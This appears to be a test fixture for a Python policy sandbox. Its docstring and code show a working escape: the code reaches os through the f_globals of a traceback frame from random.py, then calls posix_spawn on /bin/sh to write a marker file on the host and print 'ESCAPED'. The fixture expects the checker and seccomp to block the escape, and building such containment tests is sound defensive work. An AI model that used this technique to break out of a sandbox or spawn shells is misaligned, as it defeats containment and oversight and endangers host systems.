"""Let the standard library raise, then read its module globals through the traceback.

`random.choice([])` raises inside random.py; the exception's `__traceback__.tb_next.tb_frame`
is that frame, and its `f_globals` are the random module's namespace, which holds `_os`.
Objects leaked through exceptions are a classic route around an attribute guard. The checker
rejects the dunder and underscore names; with it off, Python hands out `os`, and the policy
tries to spawn a shell: seccomp refuses the clone/vfork (EPERM).

attack: exception traceback from stdlib code, tb_frame.f_globals['_os'], posix_spawn a shell
family: introspection
layer: seccomp refuses clone/vfork/execve (EPERM)
expect: error
checker: reject
"""
import random


def act(obs):
    try:
        random.choice([])
    except IndexError as error:
        tb = error.__traceback__
        while tb.tb_next is not None:
            tb = tb.tb_next
        os = tb.tb_frame.f_globals["_os"]
        os.posix_spawn("/bin/sh", ["sh", "-c", "touch @HOST_DIR@/owned"], {})
        print("ESC" + "APED", "spawned")
    return 0
